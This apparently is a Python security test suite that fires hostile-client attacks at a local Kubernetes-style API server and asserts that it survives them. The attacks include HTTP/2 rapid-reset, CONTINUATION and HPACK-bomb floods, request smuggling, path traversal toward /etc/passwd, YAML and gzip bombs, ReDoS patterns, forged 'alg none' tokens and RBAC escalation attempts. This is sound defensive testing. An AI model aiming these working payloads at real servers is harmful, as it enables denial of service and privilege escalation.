#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a hostile client may send: attacks.py --binary KUBE-TUI

Every attack runs against a living cluster. After each the same process still answers others at once, holds no more memory than
MEMORY_MAX_MB above what it had, and has given its descriptors back.

What must be quick is measured in the processor time that the server takes for it, which does not depend on what else the machine
does; time by the clock only ends what hangs.
"""
import argparse
import base64
import contextlib
import gzip
import json
import os
import pathlib
import re
import select
import socket
import ssl
import struct
import sys
import tempfile
import time

from cluster import Cluster, eventually, run_steps

MEMORY_MAX_MB = 200
OTHERS_COST_S = 3.0
HANG_S = 60
HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4


class Target:
    """The address and the credentials of the cluster's kubeconfig."""

    def __init__(self, cluster):
        config = json.loads(cluster.tui("config", "view", "--raw", "-o", "json").ok().out)
        user = config["users"][0]["user"]
        self.cluster, self.pid, self.contexts = cluster, cluster.pid(), {}
        self.port = int(config["clusters"][0]["cluster"]["server"].rpartition(":")[2])
        self.folder = tempfile.TemporaryDirectory(prefix="kube-tui-attacks-")
        self.pem = pathlib.Path(self.folder.name) / "admin.pem"
        # With sanitizers it takes longer, and keeps what is freed.
        program = pathlib.Path(cluster.binary).read_bytes()
        self.has_sanitizer = any(name in program for name in (b"__asan_init", b"__tsan_init"))
        self.patience = 10 if self.has_sanitizer else 1
        self.pem.write_bytes(base64.b64decode(user["client-certificate-data"]) + base64.b64decode(user["client-key-data"]))

    def context(self, protocol, admin):
        if (protocol, admin) not in self.contexts:
            context = self.contexts[protocol, admin] = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols([protocol])
            if admin:
                context.load_cert_chain(self.pem)
        return self.contexts[protocol, admin]

    def connect(self, protocol, admin=True, timeout=HANG_S):
        context = self.context(protocol, admin)
        raw = socket.create_connection(("127.0.0.1", self.port), timeout)
        return context.wrap_socket(raw, server_hostname="localhost")

    def ask(self, method, path, body=b"", headers=(), admin=True):
        """Status and body of one HTTP/1.1 request. Not the whole body goes out when the answer comes first."""
        with self.connect("http/1.1", admin) as s:
            lines = [f"{method} {path} HTTP/1.1", "host: x", "connection: close", *headers]
            if body or method != "GET":
                lines.append(f"content-length: {len(body)}")
            s.sendall(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1"))
            try:
                s.sendall(body)
            except OSError:
                pass
            answer = drain(s)
        head, _, rest = answer.partition(b"\r\n\r\n")
        return int(head.split(b" ")[1]) if head else 0, rest

    def gauge(self, name):
        """What /metrics says; 0 when it says nothing."""
        found = re.search(rf"^{re.escape(name)} (\S+)$", self.ask("GET", "/metrics")[1].decode(), re.M)
        return float(found.group(1)) if found else 0

    def rss_mb(self):
        status = pathlib.Path(f"/proc/{self.pid}/status").read_text(encoding="utf-8")
        return int(re.search(r"VmRSS:\s*(\d+)", status).group(1)) / 1024

    def descriptors(self):
        return len(os.listdir(f"/proc/{self.pid}/fd"))

    def cpu_s(self):
        fields = pathlib.Path(f"/proc/{self.pid}/stat").read_text(encoding="utf-8").rpartition(")")[2].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    @contextlib.contextmanager
    def costs_at_most(self, seconds, what):
        begun = self.cpu_s()
        yield
        took = self.cpu_s() - begun
        assert took < seconds * self.patience, f"{what}: {took:.1f} s of processor time"

    def others_are_served(self):
        with self.costs_at_most(OTHERS_COST_S, "until others are served"):
            try:
                status, body = self.ask("GET", "/readyz")
            except OSError as why:
                raise AssertionError(f"others are not served: {why}") from why
        assert (status, body) == (200, b"ok"), f"readyz says {status} {body!r}"


def drain(s, until=1 << 26):
    """All that comes until the other side ends."""
    data = bytearray()
    try:
        while len(data) < until and (piece := s.recv(1 << 16)):
            data += piece
    except (OSError, ssl.SSLError):
        pass
    return bytes(data)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, bits, first=0):
    top = (1 << bits) - 1
    if value < top:
        return bytes([first | value])
    out, value = [first | top], value - top
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def hpack_text(text):
    return hpack_int(len(text), 7) + text


def hpack(name, value, index=False):
    return (b"\x40" if index else b"\x00") + hpack_text(name) + hpack_text(value)


def request_block(path=b"/readyz", method=b"GET", more=()):
    fields = [(b":method", method), (b":scheme", b"https"), (b":authority", b"x"), (b":path", path), *more]
    return b"".join(hpack(name, value) for name, value in fields)


class Http2:
    """A connection that says what it likes."""

    def __init__(self, target, admin=True, settings=b""):
        self.s = target.connect("h2", admin)
        self.stream = -1
        self.alive = True
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.s.close()

    def send(self, data):
        """False: the server has ended the connection, or takes nothing any more."""
        try:
            self.s.sendall(data)
        except (OSError, ssl.SSLError):
            self.alive = False
        return self.alive

    def next(self):
        self.stream += 2
        return self.stream

    def frames(self, wait_s=0.0):
        """The kinds and payloads of all frames that come until none has for wait_s."""
        data, found = bytearray(), []
        self.s.settimeout(wait_s or 0.001)
        try:
            while piece := self.s.recv(1 << 16):
                data += piece
            self.alive = False
        except (TimeoutError, ssl.SSLWantReadError):
            pass
        except (OSError, ssl.SSLError):
            self.alive = False
        self.s.settimeout(HANG_S)
        while len(data) >= 9:
            size = int.from_bytes(data[:3], "big")
            found.append((data[3], int.from_bytes(data[5:9], "big"), bytes(data[9:9 + size])))
            del data[:9 + size]
        return found


def is_cut(connection, flood, rounds):
    """The flood ends the connection before its rounds are over."""
    for _ in range(rounds):
        if not connection.send(flood()):
            return True
    connection.frames(HANG_S)
    return not connection.alive


def rapid_reset(target):
    with Http2(target) as c:
        def flood():
            data = b""
            for _ in range(50):
                n = c.next()
                data += frame(HEADERS, END_STREAM | END_HEADERS, n, request_block(b"/api/v1/pods"))
                data += frame(RST_STREAM, 0, n, struct.pack(">I", 8))
            return data
        assert is_cut(c, flood, 400), "20,000 cancelled streams on one connection"


def made_you_reset(target):
    """CVE-2025-8671: the server itself is made to cancel what it works on."""
    with Http2(target) as c:
        def flood():
            data = b""
            for _ in range(50):
                n = c.next()
                data += frame(HEADERS, END_STREAM | END_HEADERS, n, request_block(b"/api/v1/pods"))
                data += frame(WINDOW_UPDATE, 0, n, struct.pack(">I", (1 << 31) - 1))
            return data
        assert is_cut(c, flood, 400), "20,000 streams the server had to reset"


def continuation_flood(target):
    with Http2(target) as c:
        assert c.send(frame(HEADERS, END_STREAM, c.next(), request_block()))
        assert is_cut(c, lambda: frame(CONTINUATION, 0, c.stream, hpack(b"x", b"y" * 16000)), 2000), "no end of CONTINUATION"


def empty_continuations(target):
    with Http2(target) as c:
        assert c.send(frame(HEADERS, END_STREAM, c.next(), request_block()))
        assert is_cut(c, lambda: frame(CONTINUATION, 0, c.stream) * 100, 2000), "no end of empty CONTINUATION"


def settings_flood(target):
    with Http2(target) as c:
        assert is_cut(c, lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000, 3000), "3,000,000 unread SETTINGS"


def ping_flood(target):
    with Http2(target) as c:
        assert is_cut(c, lambda: frame(PING, 0, 0, b"12345678") * 1000, 3000), "3,000,000 unread PING"


def hpack_bomb(target):
    """One indexed field of 4,000 bytes, named 16,000 times a block: 60 MB out of 16 KB."""
    with Http2(target) as c:
        assert c.send(frame(HEADERS, END_STREAM | END_HEADERS, c.next(), request_block() + hpack(b"x-a", b"a" * 3900, True)))
        for _ in range(50):
            if not c.send(frame(HEADERS, END_STREAM | END_HEADERS, c.next(), request_block() + b"\xbe" * 16000)):
                return
        seen = c.frames(1.0)
        good = [f for f in seen if f[0] == HEADERS and f[2][:1] == b"\x88" and f[1] > 1]
        assert not good, "a request with 60 MB of fields was served"


def many_streams(target):
    """10,000 streams at once on one connection, none finished."""
    with Http2(target) as c:
        block = request_block(b"/api/v1/namespaces/default/pods", b"POST")
        for _ in range(100):
            if not c.send(b"".join(frame(HEADERS, END_HEADERS, c.next(), block) for _ in range(100))):
                return
        refused = 0

        def are_refused():
            nonlocal refused
            refused += sum(f[0] in (RST_STREAM, GOAWAY) for f in c.frames(0.05))
            return refused >= 9700 or not c.alive
        eventually(are_refused, "of 10,000 open streams 9,700 are refused")


def windows_closed(target):
    """Every answer is wanted and none is read."""
    held = []
    for _ in range(8):
        c = Http2(target, settings=struct.pack(">HI", 4, 0))
        block = request_block(b"/openapi/v2")
        c.send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, c.next(), block) for _ in range(200)))
        held.append(c)
    target.others_are_served()
    for c in held:
        c.s.close()


def priority_flood(target):
    with Http2(target) as c:
        n = iter(range(1, 1 << 30, 2))
        for _ in range(200):
            payload = struct.pack(">IB", 0, 16)
            if not c.send(b"".join(frame(PRIORITY, 0, next(n), payload) for _ in range(500))):
                return
        target.others_are_served()


def window_overflow(target):
    with Http2(target) as c:
        assert is_cut(c, lambda: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1)), 3), "a window of 2^32"


def frames_of_nonsense(target):
    for kind in range(16):
        for size in (0, 1, 5, 8, 9, 16384, 16385):
            with Http2(target) as c:
                c.send(frame(kind, 0xFF, 1, b"\xff" * size))
                c.send(frame(kind, 0, 0, b"\0" * size))
    with Http2(target) as c:
        c.send(struct.pack(">I", 0xFFFFFF00 | HEADERS) + b"\0" * 64)


def tls_of_nonsense(target):
    hello = b"\x16\x03\x01\xff\xff" + b"\x01\0\xff\xfb\x03\x03" + b"\0" * 65000
    alerts = b"\x15\x03\x03\x00\x02\x01\x00" * 5000
    for data in (hello, alerts, b"\x16\x03\x01\x00\x00" * 5000, b"\x80\x2e\x01" * 3000, b"GET / HTTP/1.1\r\n\r\n", b"\0" * 65536):
        with socket.create_connection(("127.0.0.1", target.port), 20) as s:
            try:
                s.sendall(data)
                s.shutdown(socket.SHUT_WR)
            except OSError:
                pass
            drain(s)


def half_closed_tls(target):
    """A request whose sender says close_notify, or nothing, and goes on reading."""
    for polite in (True, False):
        s = target.connect("http/1.1")
        s.sendall(b"GET /api/v1/pods?watch=true HTTP/1.1\r\nhost: x\r\n\r\n")
        raw = socket.socket(fileno=os.dup(s.fileno()))
        try:
            if polite:
                s.settimeout(HANG_S)
                s.unwrap()
            else:
                raw.shutdown(socket.SHUT_WR)
        except (OSError, ssl.SSLError, ValueError):
            pass
        drain(raw)
        raw.close()
        s.close()


def too_many_connections(target):
    """Connections that say nothing take every place; those who have something to say are served all the same."""
    with contextlib.ExitStack() as held:
        for _ in range(1500):
            held.enter_context(socket.create_connection(("127.0.0.1", target.port), HANG_S))
        target.others_are_served()


def too_many_idle_connections(target):
    """The same after a handshake, without a name."""
    with contextlib.ExitStack() as held:
        for i in range(940):
            try:
                held.enter_context(target.connect("http/1.1", admin=False))
            except OSError as why:
                raise AssertionError(f"connection {i}: {why}") from why
        target.others_are_served()


def too_many_connections_of_one_thread(target):
    """Every second one goes away again: whoever hands them out in turns has all that stay in one place."""
    with contextlib.ExitStack() as held:
        for _ in range(940):
            held.enter_context(socket.create_connection(("127.0.0.1", target.port), HANG_S))
            target.connect("http/1.1", admin=False).close()
        for _ in range(10):
            target.others_are_served()


def smuggling(target):
    """Nothing that two readers could cut differently is answered as a request, and nothing after it."""
    inner = b"GET /smuggled HTTP/1.1\r\nhost: x\r\n\r\n"
    bad = [
        b"content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
        b"transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n",
        b"content-length: 4\r\ncontent-length: 5\r\n\r\nabcde",
        b"content-length: 4, 5\r\n\r\nabcde",
        b"content-length: -1\r\n\r\n",
        b"content-length: +4\r\n\r\nabcd",
        b"content-length: 0x4\r\n\r\nabcd",
        b"content-length: 18446744073709551617\r\n\r\na",
        b"content-length : 4\r\n\r\nabcd",
        b" content-length: 4\r\n\r\nabcd",
        b"transfer-encoding: xchunked\r\n\r\n0\r\n\r\n",
        b"transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        b"transfer-encoding: chunked\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
        b"transfer-encoding\x0b: chunked\r\n\r\n0\r\n\r\n",
        b"transfer-encoding: chunked\r\n\r\n-1\r\n\r\n",
        b"transfer-encoding: chunked\r\n\r\n0x1\r\na\r\n0\r\n\r\n",
        b"transfer-encoding: chunked\r\n\r\n10000000000000001\r\na\r\n0\r\n\r\n",
        b"transfer-encoding: chunked\r\n\r\n1\r\nab\r\n0\r\n\r\n",
        b"x: a\0b\r\n\r\n",
        b"x: a\rb\r\n\r\n",
        b"x: a\r\n folded\r\n\r\n",
        b"no colon\r\n\r\n",
    ]
    for head in bad:
        with target.connect("http/1.1") as s:
            try:
                s.sendall(b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nhost: x\r\n" + head + inner)
            except OSError:
                pass
            answer = drain(s)
        statuses = re.findall(rb"HTTP/1\.1 (\d+)", answer)
        assert statuses in ([b"400"], [b"501"]), f"{head!r} is answered with {statuses}"


def huge_heads(target):
    for head in (b"x: " + b"a" * (1 << 20), b"".join(b"x%d: y\r\n" % i for i in range(10000)), b"GET /" + b"a" * (1 << 20)):
        with target.connect("http/1.1") as s:
            try:
                s.sendall((b"" if head.startswith(b"GET") else b"GET / HTTP/1.1\r\n") + head)
            except OSError:
                pass
            status = drain(s)[:12]
        assert status in (b"HTTP/1.1 431", b"HTTP/1.1 414", b"HTTP/1.1 400"), f"a head of {len(head)} bytes: {status!r}"


CONFIG_MAPS = "/api/v1/namespaces/default/configmaps"
JSON, YAML = "content-type: application/json", "content-type: application/yaml"


def takes_at_most(target, seconds, method, path, body, *headers):
    with target.costs_at_most(seconds, f"{body[:60]!r}…"):
        status, answer = target.ask(method, path, body, headers)
    assert 400 <= status < 500, f"{body[:60]!r}…: {status} {answer[:200]!r}"
    return status, answer


def deep_and_large_bodies(target):
    n = 3 << 20
    bombs = [
        (JSON, b"[" * (n - 1)),
        (JSON, b'{"a":' * (n // 5)),
        (JSON, b'{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"x"},"data":{"a":' + b"[" * 100000 + b"]" * 100000 + b"}}"),
        (JSON, b'{"data":{' + b'"a":"",' * 300000 + b'"a":""}}'),
        (JSON, b'{"data":' + b"1" * 2000000 + b"}"),
        (JSON, b'{"metadata":{"generation":1e999999999}}'),
        (JSON, b'"' + b"\\u0000" * 400000 + b'"'),
        (JSON, b"\xff\xfe" * 1000),
        (JSON, b" " * n + b"{}"),
        (YAML, b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(
            b"%c: &%c [%s]\n" % (c, c, b",".join(b"*%c" % (c - 1) for _ in range(9))) for c in range(98, 122))),
        (YAML, b"a: &a [*a]\n"),
        (YAML, b"a: &a {<<: *a}\n"),
        (YAML, b"{" * 200000),
        (YAML, b"- " * 200000),
        (YAML, b"? " * 200000),
        (YAML, b"&a " * 200000),
        (YAML, b"!!binary " + b"A" * 1000000),
        (YAML, b"a: |\n" + b" " * 1000000),
        (YAML, b"---\n" * 300000),
        ("content-type: application/vnd.kubernetes.protobuf", b"k8s\0" + b"\x0a\xff\xff\xff\xff\x0f"),
        ("content-type: application/vnd.kubernetes.protobuf", b"k8s\0" + b"\x0a" * 2000000),
        ("content-type: application/cbor", b"\x9f" * 1000000),
    ]
    for kind, body in bombs:
        takes_at_most(target, 2.0, "POST", CONFIG_MAPS, body, kind)


def compressed_bodies(target):
    body = gzip.compress(b" " * (200 << 20), 9)
    takes_at_most(target, 2.0, "POST", CONFIG_MAPS, body, JSON, "content-encoding: gzip")


def endless_chunks(target):
    with target.connect("http/1.1") as s:
        s.sendall(f"POST {CONFIG_MAPS} HTTP/1.1\r\nhost: x\r\n{JSON}\r\ntransfer-encoding: chunked\r\n\r\n".encode())
        chunk = b"10000\r\n" + b" " * 65536 + b"\r\n"
        try:
            for _ in range(2000):
                s.sendall(chunk)
        except OSError:
            pass
        assert drain(s)[:12] == b"HTTP/1.1 413"


def patches(target):
    target.ask("POST", CONFIG_MAPS, b'{"metadata":{"name":"bomb"},"data":{"a":"' + b"x" * 1000 + b'"}}', (JSON,))
    path = CONFIG_MAPS + "/bomb"
    json_patch = "content-type: application/json-patch+json"
    doubling = [{"op": "copy", "from": "/data", "path": f"/data/{side}{i}"} for i in range(100) for side in "lr"]
    nested = [{"op": "copy", "from": "/data", "path": "/data/a"}] * 9000
    for patch in (doubling, nested, [{"op": "test", "path": "/data/a", "value": "y" * 1000}] * 9999,
                  [{"op": "move", "from": "/data", "path": "/data/a"}], [{"op": "add", "path": "/" * 100000, "value": 1}],
                  [{"op": "remove", "path": "/data"}] * 10001):
        takes_at_most(target, 2.0, "PATCH", path, json.dumps(patch).encode(), json_patch)
    deep = b'{"a":' * 100000 + b"1" + b"}" * 100000
    for kind in ("merge-patch+json", "strategic-merge-patch+json", "apply-patch+yaml"):
        takes_at_most(target, 2.0, "PATCH", path + "?fieldManager=x", deep, f"content-type: application/{kind}")
    target.ask("DELETE", path)


def selectors(target):
    many = ",".join(f"k{i}%20in%20(a,b,c)" for i in range(2000))
    for query in (f"labelSelector={many}", "labelSelector=" + "(" * 30000, "labelSelector=a%20in%20(" + "b," * 20000 + ")",
                  "fieldSelector=" + ",".join("metadata.name=a" for _ in range(3000)), "limit=-1", "limit=99999999999999999999",
                  "continue=" + "A" * 30000, "continue=e30", "resourceVersion=-1", "timeoutSeconds=1e9", "&" * 60000,
                  "%00=%ff", "labelSelector=%ff%fe", "watch=true&resourceVersion=99999999999999999999"):
        with target.costs_at_most(1.5, query[:60]):
            status, answer = target.ask("GET", f"/api/v1/pods?{query}&timeoutSeconds=1")
        assert 200 <= status < 500 or b"parsing" in answer or b"strconv" in answer, f"{query[:60]}: {status} {answer[:300]!r}"


def paths(target):
    for path in ("/api/v1/../../etc/passwd", "/api/v1/%2e%2e/%2e%2e/etc/passwd", "/api/v1/namespaces/..%2f..%2fetc/pods",
                 "//api//v1", "/api/v1/namespaces/default/pods/%00", "/api/v1/namespaces/%ff/pods", "/api/v1/pods;a=b",
                 "/api/v1/namespaces/default/pods/../../../secrets", "/" + "a/" * 20000, "/api/v1/nodes/x/proxy/../../y",
                 "/logs/../../../etc/shadow", "/static/../etc/passwd"):
        status, answer = target.ask("GET", path, admin=False)
        assert status in (301, 400, 401, 403, 404, 414, 431), f"{path[:80]}: {status}"
        assert b"root:" not in answer


SLOW_CRD = {
    "apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition", "metadata": {"name": "bombs.example.org"},
    "spec": {"group": "example.org", "scope": "Namespaced", "names": {"plural": "bombs", "singular": "bomb", "kind": "Bomb"},
             "versions": [{"name": "v1", "served": True, "storage": True, "schema": {"openAPIV3Schema": None}}]}}


def crd(schema):
    SLOW_CRD["spec"]["versions"][0]["schema"]["openAPIV3Schema"] = schema
    return json.dumps(SLOW_CRD).encode()


def costly_schemas(target):
    path = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
    strings = {"type": "array", "items": {"type": "string"}}
    loops = "self.a.all(w, self.a.all(x, self.a.all(y, self.a.all(z, w + x + y + z != 'a'))))"
    rule = {"type": "object", "properties": {"a": strings}, "x-kubernetes-validations": [{"rule": loops}]}
    takes_at_most(target, 2.0, "POST", path, crd(rule), JSON)
    deep = {"type": "string"}
    for _ in range(400):
        deep = {"type": "object", "properties": {"a": deep}}
    with target.costs_at_most(5, "a deep schema"):
        target.ask("POST", path, crd(deep), (JSON,))
    for text in ("(" * 5000, "a" * 100000, "!" * 50000 + "true", "[" * 5000 + "]" * 5000, "1" + "+1" * 20000, "-" * 50000 + "1",
                 "true ? " * 5000 + "true" + " : true" * 5000, "a." * 20000 + "a", "'" + "\\" * 5001):
        bad = {"type": "object", "x-kubernetes-validations": [{"rule": text}]}
        takes_at_most(target, 3.0, "POST", path, crd(bad), JSON)
    wide = {"type": "object", "properties": {f"p{i}": {"type": "string", "pattern": "(a*)*b"} for i in range(5000)}}
    with target.costs_at_most(5, "5,000 properties"):
        target.ask("POST", path, crd(wide), (JSON,))
    target.ask("DELETE", path + "/bombs.example.org")
    eventually(lambda: target.ask("GET", path + "/bombs.example.org")[0] == 404, "the CRD goes")
    pattern = {"type": "object", "properties": {"s": {"type": "string", "pattern": "^(([a-z])+.)+[A-Z]([a-z])+$"}}}
    status, answer = target.ask("POST", path, crd(pattern), (JSON,))
    assert status == 201, answer
    body = json.dumps({"apiVersion": "example.org/v1", "kind": "Bomb", "metadata": {"name": "b"}, "s": "a" * 100000}).encode()
    where = "/apis/example.org/v1/namespaces/default/bombs"
    eventually(lambda: target.ask("GET", where)[0] == 200, "the CRD is served")
    takes_at_most(target, 2.0, "POST", where, body, JSON)
    target.ask("DELETE", path + "/bombs.example.org")


def token(header, claims, signature=b"x"):
    def part(data):
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
    return f"{part(json.dumps(header).encode())}.{part(json.dumps(claims).encode())}.{part(signature)}"


def credentials(target):
    claims = {"iss": "https://kubernetes.default.svc.cluster.local", "sub": "system:serviceaccount:kube-system:default",
              "aud": ["https://kubernetes.default.svc.cluster.local"], "exp": 9999999999, "iat": 1, "nbf": 1}
    tokens = [token({"alg": "none"}, claims), token({"alg": "none"}, claims, b""), token({"alg": "HS256"}, claims),
              token({"alg": "RS256", "kid": "../../etc/passwd"}, claims), token({"alg": "RS256"}, claims), "a.b.c", "..", "a" * 50000,
              "=" * 1000, "\xff\xfe", ""]
    for text in tokens:
        status, _ = target.ask("GET", "/api/v1/secrets", headers=(f"authorization: Bearer {text}",), admin=False)
        assert status in (401, 403), f"token {text[:40]!r}: {status}"
    for line in ("Basic YWRtaW46YWRtaW4=", "bearer", "Bearer", "Negotiate x"):
        status, _ = target.ask("GET", "/api/v1/secrets", headers=(f"authorization: {line}",), admin=False)
        assert status in (401, 403), f"{line}: {status}"
    for line in ("impersonate-user: system:admin\r\nimpersonate-group: system:masters", "impersonate-group: system:masters",
                 "x-remote-user: system:admin\r\nx-remote-group: system:masters", "impersonate-extra-scopes: x"):
        status, _ = target.ask("GET", "/api/v1/secrets", headers=(line,), admin=False)
        assert status in (400, 401, 403, 500), f"{line!r}: {status}"


def the_token_of(target, account, seconds=600):
    body = json.dumps({"spec": {"expirationSeconds": seconds}}).encode()
    status, answer = target.ask("POST", f"/api/v1/namespaces/default/serviceaccounts/{account}/token", body, (JSON,))
    assert status == 201, answer
    return json.loads(answer)["status"]["token"]


def escalation(target):
    """An account that may write roles gives itself nothing it does not have."""
    rbac = "/apis/rbac.authorization.k8s.io/v1"
    rules = [{"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["*"], "verbs": ["create", "update", "patch", "get"]},
             {"apiGroups": [""], "resources": ["serviceaccounts/token"], "verbs": ["get"]}]
    target.ask("POST", "/api/v1/namespaces/default/serviceaccounts", b'{"metadata":{"name":"mallory"}}', (JSON,))
    target.ask("POST", f"{rbac}/clusterroles", json.dumps({"metadata": {"name": "writer"}, "rules": rules}).encode(), (JSON,))
    binding = {"metadata": {"name": "writer"}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "writer"},
               "subjects": [{"kind": "ServiceAccount", "name": "mallory", "namespace": "default"}]}
    target.ask("POST", f"{rbac}/clusterrolebindings", json.dumps(binding).encode(), (JSON,))
    auth = (JSON, f"authorization: Bearer {the_token_of(target, 'mallory')}")

    def tries(method, path, body, *headers):
        status, answer = target.ask(method, path, json.dumps(body).encode(), (*auth, *headers), admin=False)
        assert status == 403, f"{method} {path}: {status} {answer[:300]!r}"
    eventually(lambda: target.ask("GET", f"{rbac}/clusterroles/writer", headers=auth, admin=False)[0] == 200, "the role works")
    everything = [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]
    root = {**binding, "metadata": {"name": "root"}, "roleRef": {**binding["roleRef"], "name": "cluster-admin"}}
    tries("POST", f"{rbac}/clusterroles", {"metadata": {"name": "root"}, "rules": everything})
    tries("POST", f"{rbac}/namespaces/default/roles", {"metadata": {"name": "root"}, "rules": everything})
    tries("PUT", f"{rbac}/clusterroles/writer", {"metadata": {"name": "writer"}, "rules": rules + everything})
    tries("POST", f"{rbac}/clusterrolebindings", root)
    tries("POST", f"{rbac}/namespaces/default/rolebindings", root)
    aggregated = {"metadata": {"name": "agg"}, "aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {}}]}, "rules": []}
    tries("POST", f"{rbac}/clusterroles", aggregated)
    for headers in (("impersonate-user: system:admin",), ("impersonate-user: system:serviceaccount:kube-system:default",),
                    ("impersonate-user: system:serviceaccount:default:mallory", "impersonate-group: system:masters"),
                    ("impersonate-uid: x", "impersonate-user: system:serviceaccount:default:mallory")):
        status, answer = target.ask("GET", "/api/v1/secrets", headers=(*auth, *headers), admin=False)
        assert status in (400, 403), f"{headers}: {status} {answer[:200]!r}"
    patch = [{"op": "add", "path": "/rules/-", "value": everything[0]}]
    status, _ = target.ask("PATCH", f"{rbac}/clusterroles/writer", json.dumps(patch).encode(),
                           ("content-type: application/json-patch+json", auth[1]), admin=False)
    assert status == 403, f"patch: {status}"


def flow_objects(response):
    """A level without a seat, and the schema that puts one account there."""
    flowcontrol = "flowcontrol.apiserver.k8s.io/v1"
    level = {"apiVersion": flowcontrol, "kind": "PriorityLevelConfiguration", "metadata": {"name": "jail"},
             "spec": {"type": "Limited", "limited": {"nominalConcurrencyShares": 0, "borrowingLimitPercent": 0,
                                                     "limitResponse": response}}}
    rule = {"subjects": [{"kind": "ServiceAccount", "serviceAccount": {"namespace": "default", "name": "loud"}}],
            "resourceRules": [{"verbs": ["list"], "apiGroups": [""], "resources": ["pods"], "namespaces": ["default"]}]}
    schema = {"apiVersion": flowcontrol, "kind": "FlowSchema", "metadata": {"name": "jail"},
              "spec": {"matchingPrecedence": 50, "priorityLevelConfiguration": {"name": "jail"}, "rules": [rule]}}
    return ("prioritylevelconfigurations", level), ("flowschemas", schema)


def flow_control(target):
    """Priority levels are obeyed: refused at once, or held until there are seats; others are not held."""
    apis = "/apis/flowcontrol.apiserver.k8s.io/v1"
    target.ask("POST", "/api/v1/namespaces/default/serviceaccounts", b'{"metadata":{"name":"loud"}}', (JSON,))
    bearer = f"authorization: Bearer {the_token_of(target, 'loud')}"

    def asks(path):
        with target.connect("http/1.1", admin=False) as s:
            s.sendall(f"GET {path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n{bearer}\r\n\r\n".encode())
            return drain(s).decode()
    pods, maps = "/api/v1/namespaces/default/pods", CONFIG_MAPS
    for resource, body in flow_objects({"type": "Reject"}):
        status, answer = target.ask("POST", f"{apis}/{resource}", json.dumps(body).encode(), (JSON,))
        assert status == 201, answer
        uid = json.loads(answer)["metadata"]["uid"]
    eventually(lambda: asks(pods).startswith("HTTP/1.1 429 "), "the level without seats refuses")
    refused = asks(pods)
    assert "\r\nretry-after: 1\r\n" in refused and "Too many requests, please try again later." in refused, refused
    assert f"\r\nx-kubernetes-pf-flowschema-uid: {uid}\r\n" in refused, refused
    assert asks(maps).startswith("HTTP/1.1 403 "), "another resource of the same account is held"
    assert 'rejected_requests_total{flow_schema="jail",priority_level="jail",reason="concurrency-limit"}' in target.ask(
        "GET", "/metrics")[1].decode()
    queue = {"type": "Queue", "queuing": {"queues": 2, "handSize": 1, "queueLengthLimit": 3}}
    level = flow_objects(queue)[0][1]
    target.ask("PUT", f"{apis}/prioritylevelconfigurations/jail", json.dumps(level).encode(), (JSON,))
    waiting, in_queue = [], 'apiserver_flowcontrol_current_inqueue_requests{flow_schema="jail",priority_level="jail"}'

    def is_waiting():
        """Whether one more request is held; otherwise it was answered."""
        eventually(lambda: target.gauge(in_queue) == len(waiting), "who went away waits no more")
        s = target.connect("http/1.1", admin=False)
        s.sendall(f"GET {pods} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n{bearer}\r\n\r\n".encode())
        s.settimeout(0.05)
        while target.gauge(in_queue) <= len(waiting):
            try:
                s.recv(1)
                s.close()
                return False
            except TimeoutError:
                pass
        waiting.append(s)
        return True
    eventually(is_waiting, "the level holds what it has no seat for")
    assert is_waiting() and is_waiting() and not is_waiting(), "three wait, the fourth is refused"
    waiting.pop().close()
    eventually(lambda: target.gauge(in_queue) == len(waiting), "one that went away waits no more")
    assert is_waiting(), "the place of one that went away is free"
    level["spec"]["limited"]["nominalConcurrencyShares"] = 10
    target.ask("PUT", f"{apis}/prioritylevelconfigurations/jail", json.dumps(level).encode(), (JSON,))
    for s in waiting:
        s.settimeout(HANG_S)
        assert drain(s).startswith(b"HTTP/1.1 403 "), "not let in once there are seats"
        s.close()
    target.ask("DELETE", f"{apis}/flowschemas/jail")
    target.ask("DELETE", f"{apis}/prioritylevelconfigurations/jail")


def seats_of_watches(target):
    """A watch has a seat until it begins: a level of few holds any number of them, and goes on serving."""
    apis, rbac = "/apis/flowcontrol.apiserver.k8s.io/v1", "/apis/rbac.authorization.k8s.io/v1"
    target.ask("POST", "/api/v1/namespaces/default/serviceaccounts", b'{"metadata":{"name":"loud"}}', (JSON,))
    bearer = the_token_of(target, "loud")
    binding = {"metadata": {"name": "loud"}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"},
               "subjects": [{"kind": "ServiceAccount", "name": "loud", "namespace": "default"}]}
    target.ask("POST", f"{rbac}/clusterrolebindings", json.dumps(binding).encode(), (JSON,))
